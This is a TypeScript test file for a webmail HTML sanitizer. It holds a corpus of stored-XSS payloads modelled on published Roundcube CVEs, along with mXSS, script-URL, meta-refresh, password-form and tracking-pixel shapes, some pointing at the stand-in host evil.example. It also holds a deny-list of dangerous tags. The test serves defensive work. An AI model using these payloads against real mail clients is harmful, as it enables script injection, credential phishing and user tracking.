/**
 * Sanitizer corpus built from the payload shapes of the published Roundcube stored-XSS CVEs:
 * CVE-2018-19206 (<svg><style> + body onload), CVE-2023-5631 (SVG use/href data: documents),
 * CVE-2024-37383 (SVG animate/set with attributeName="href " and javascript: values),
 * CVE-2024-42009 (malformed attribute values that re-parse into event handlers), plus
 * style/content-type confusion and mXSS shapes. Nothing executable or remote may survive.
 */
import t from 'tap';
import { parseHTML } from 'linkedom';
import { sanitizeMail } from '../../../src/http/webmail/sanitize.js';

const CORPUS: [string, string][] = [
  ['CVE-2018-19206 svg style body onload', '<svg><style>@import "x";</style><body onload="alert(1)">hi</body></svg>'],
  ['CVE-2018-19206 style breakout', '<svg><style><img src=x onerror=alert(1)></style></svg>'],
  ['CVE-2018-19206 html attachment body onload', '<html><body onload=alert(document.cookie)><p>x</p></body></html>'],
  ['CVE-2023-5631 svg use data href', '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0neCcgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>'],
  ['CVE-2023-5631 svg xlink', '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text x="10" y="10">click</text></a></svg>'],
  ['CVE-2023-5631 svg image onerror', '<svg><image href="x" onerror="alert(1)"/></svg>'],
  ['CVE-2024-37383 animate href space', '<svg><animate attributeName="href " values="javascript:alert(1)" /><a id="xss"><text x=20 y=20>XSS</text></a></svg>'],
  ['CVE-2024-37383 set onmouseover', '<svg><set attributeName="onmouseover" to="alert(1)"/><rect width="100" height="100"/></svg>'],
  ['CVE-2024-37383 animate to', '<svg><a><animate attributeName=href dur=5s repeatCount=indefinite keytimes=0 values="javascript:alert(1)"/><text x=20 y=20>X</text></a></svg>'],
  ['CVE-2024-42009 body attr confusion', '<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes onanimationstart=alert(origin) foo=bar">Foo</body>'],
  ['CVE-2024-42009 unquoted', '<p title=a onclick=alert(1) >x</p><div/onmouseover=alert(1)>y</div>'],
  ['malformed quotes', '<a href="http://ok.example/" onmouseover="alert(1)"x="y>z</a><img """><script>alert(1)</script>">'],
  ['javascript href entity', '<a href="jav&#x09;ascript:alert(1)">a</a><a href="&#106;avascript:alert(1)">b</a><a href=" javascript:alert(1)">c</a>'],
  ['vbscript and data links', '<a href="vbscript:msgbox(1)">v</a><a href="data:text/html,<script>alert(1)</script>">d</a>'],
  ['style tag content-type confusion', '<style>*{background:url(http://evil.example/x)}</style><x-style>y</x-style><p>z</p>'],
  ['comment style breakout', '<!--<style>--><img src=x onerror=alert(1)><!--</style>-->'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['math mXSS', '<math><mi><style><img src onerror=alert(1)></style></mi></math>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src="x">'],
  ['meta refresh and base', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="http://evil.example/">'],
  ['form phishing', '<form action="http://evil.example/"><input name="password"><button>Go</button></form>'],
  ['style attribute url', '<div style="background:url(http://evil.example/track.png)">t</div><p style="behavior:url(x.htc)">u</p>'],
  ['remote image tracking', '<img src="http://evil.example/pixel.gif" width=1 height=1><img src="//evil.example/p.gif"><img srcset="http://evil.example/a.png 1x">'],
  ['class id spoofing', '<tr class="message-row" id="content"><td class="message-from">spoof</td></tr><span class="current-user">admin</span>'],
  ['template and xmp', '<template><img src=x onerror=alert(1)></template><xmp><img src=x onerror=alert(1)></xmp>'],
  ['link stylesheet', '<link rel="stylesheet" href="http://evil.example/x.css"><img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">'],
];

const BAD_TAGS = new Set(['script', 'style', 'svg', 'math', 'iframe', 'object', 'embed', 'form', 'input', 'button', 'meta',
  'base', 'link', 'animate', 'set', 'use', 'image', 'template', 'xmp', 'noscript', 'body', 'html', 'head', 'textarea']);

for (const [name, payload] of CORPUS) {
  t.test(name, async (t) => {
    const { html } = sanitizeMail(payload, { allowRemote: false, cidUrl: () => null });
    const { document } = parseHTML(`<!doctype html><html><body><div id="root">${html}</div></body></html>`);
    const root = document.getElementById('root')!;
    for (const el of root.querySelectorAll('*')) {
      const tag = el.tagName.toLowerCase();
      t.notOk(BAD_TAGS.has(tag), `no <${tag}>`);
      for (const attr of el.attributes) {
        const n = attr.name.toLowerCase();
        t.notOk(n.startsWith('on'), `no ${n}= on <${tag}>`);
        t.notOk(['style', 'class', 'id', 'srcset', 'srcdoc', 'action', 'formaction', 'background'].includes(n), `no ${n}= on <${tag}>`);
        const v = attr.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
        t.notOk(/^(javascript|vbscript|data:text)/.test(v), `no script URL in ${n}`);
        if (n === 'src') t.notOk(/^(https?:)?\/\//.test(v), 'no remote src');
        if (n === 'src' && v.startsWith('data:')) t.match(v, /^data:image\/(png|gif|jpe?g|webp|bmp);base64,/, 'only raster data: images');
      }
    }
    t.notMatch(html, /<script/i);
    t.notMatch(html, /<[^>]*\son[a-z]+\s*=/i, 'no handler attribute in markup');
  });
}

t.test('remote images: blocked by default, kept when allowed; cid mapped', async (t) => {
  const input = '<p>Hi</p><img src="https://img.example/a.png" alt="a"><img src="cid:logo@x">';
  const blocked = sanitizeMail(input, { allowRemote: false, cidUrl: (c) => (c === 'logo@x' ? 'http://local/part/2' : null) });
  t.equal(blocked.blockedRemote, 1);
  t.match(blocked.html, /data-remote-src="https:\/\/img.example\/a.png"/);
  t.notMatch(blocked.html, /\ssrc="https:\/\/img/);
  t.match(blocked.html, /src="http:\/\/local\/part\/2"/);
  const allowed = sanitizeMail(input, { allowRemote: true, cidUrl: () => null });
  t.equal(allowed.blockedRemote, 0);
  t.match(allowed.html, /src="https:\/\/img.example\/a.png"/);
  const links = sanitizeMail('<a href="https://x.example/">x</a>', { allowRemote: false, cidUrl: () => null });
  t.match(links.html, /rel="noopener noreferrer nofollow"/);
});
